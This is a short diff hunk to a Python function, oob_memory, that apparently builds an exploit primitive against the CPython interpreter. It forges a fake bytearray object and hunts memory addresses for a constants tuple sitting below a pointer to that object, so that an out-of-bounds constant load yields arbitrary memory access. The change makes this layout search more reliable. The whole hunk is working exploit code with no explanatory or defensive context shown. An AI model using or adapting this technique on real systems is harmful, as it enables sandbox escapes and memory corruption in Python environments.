@@ -1742,16 +1742,20 @@ def oob_memory(make):
     import dis, struct
 
     fake = struct.pack("<qqqqqqq", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
-    consts = (None,)
-    kept = []
+    kept, tuples = [], []  # fresh constant tuples too: any one below a pointer will do
     for _ in range(10000):  # a pointer placed above the constants
+        tuples.append((tuple([None]), 0))
+        tuples[-1] = (tuples[-1][0], id(tuples[-1][0]) + tuple.__basicsize__)
         pointer = struct.pack("<Q", id(fake) + bytes.__basicsize__ - 1)
-        offset = id(pointer) + bytes.__basicsize__ - 1 - id(consts) - tuple.__basicsize__
-        if offset > 0 and offset % 8 == 0:
+        at = id(pointer) + bytes.__basicsize__ - 1
+        below = [t for t, where in tuples[-256:] if at > where and (at - where) % 8 == 0]
+        if below:
+            consts, offset = below[0], at - (id(below[0]) + tuple.__basicsize__)
             break
         kept.append(pointer)
     else:
         raise LookupError("no layout for the fake object")
+    kept.append(tuples)
     index = offset // 8
     digits = []
     while True:
